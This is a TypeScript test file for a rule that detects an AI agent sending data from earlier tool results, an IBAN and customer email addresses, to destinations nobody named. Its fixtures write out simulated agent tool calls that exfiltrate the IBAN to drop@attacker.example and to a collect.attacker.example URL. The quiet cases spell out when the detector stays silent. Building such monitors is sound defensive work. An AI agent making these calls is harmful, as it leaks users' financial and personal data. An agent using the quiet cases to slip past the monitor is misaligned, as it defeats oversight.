import { toolCall, toolResult, toolSpan, userMessage } from '../../testing/drafts.ts';
import { testRule } from '../../testing/test-rule.ts';
import rule from './data-sent-outside.ts';

const IBAN = 'DE89370400440532013000';
const request = userMessage('Summarise the open invoices for finance@example.com.');
const read = toolSpan('read_invoice', { id: 7 }, `Invoice 7. Pay to ${IBAN}, due in May.`);
const three = 'ann@example.com, bo@example.com, cy@example.com';

testRule(rule, {
  fires: [
    {
      when: 'an account from a result is sent to an address that nobody named',
      events: [request, read, toolCall('send_email', { to: 'drop@attacker.example', body: `As asked: ${IBAN}` })],
      summary:
        'The arguments of send_email hold 1 financial value that an earlier result of read_invoice held, and name drop@attacker.example, which no words of a user or the operator do.',
    },
    {
      when: 'it stands in the address of a page that is fetched',
      events: [
        request,
        toolCall('read_invoice', { id: 7 }),
        toolResult('read_invoice', `Invoice 7. Pay to ${IBAN}.`),
        toolCall('web_fetch', { url: `https://collect.attacker.example/i?d=${IBAN}` }),
      ],
    },
    {
      when: 'three addresses of people go out',
      events: [
        request,
        toolSpan('list_customers', {}, three),
        toolCall('send_email', { to: 'drop@attacker.example', body: three }),
      ],
    },
  ],
  quiet: [
    {
      when: 'it goes to the domain that the user names',
      events: [request, read, toolCall('send_email', { to: 'ledger@example.com', body: IBAN })],
    },
    {
      when: 'the user wrote the account',
      events: [
        userMessage(`Ask the bank about ${IBAN}.`),
        toolSpan('read_invoice', {}, `Pay to ${IBAN}`),
        toolCall('send_email', { to: 'desk@bank.example', body: IBAN }),
      ],
    },
    {
      when: 'the call was refused',
      events: [
        request,
        read,
        toolCall('send_email', { to: 'drop@attacker.example', body: IBAN }, { status: 'denied' }),
      ],
    },
    {
      when: 'one address of a person is quoted',
      events: [
        request,
        toolSpan('find_contact', {}, 'ann@example.com'),
        toolCall('send_email', { to: 'bo@partner.example', body: 'Write to ann@example.com.' }),
      ],
    },
    {
      when: 'the account is what is paid to, and nothing else',
      events: [request, read, toolCall('send_payment', { iban: IBAN, amount: 10 })],
    },
    {
      when: 'another session read it',
      events: [
        request,
        read,
        toolCall('send_email', { to: 'drop@attacker.example', body: IBAN }, { sessionId: 'session-2' }),
      ],
    },
  ],
});
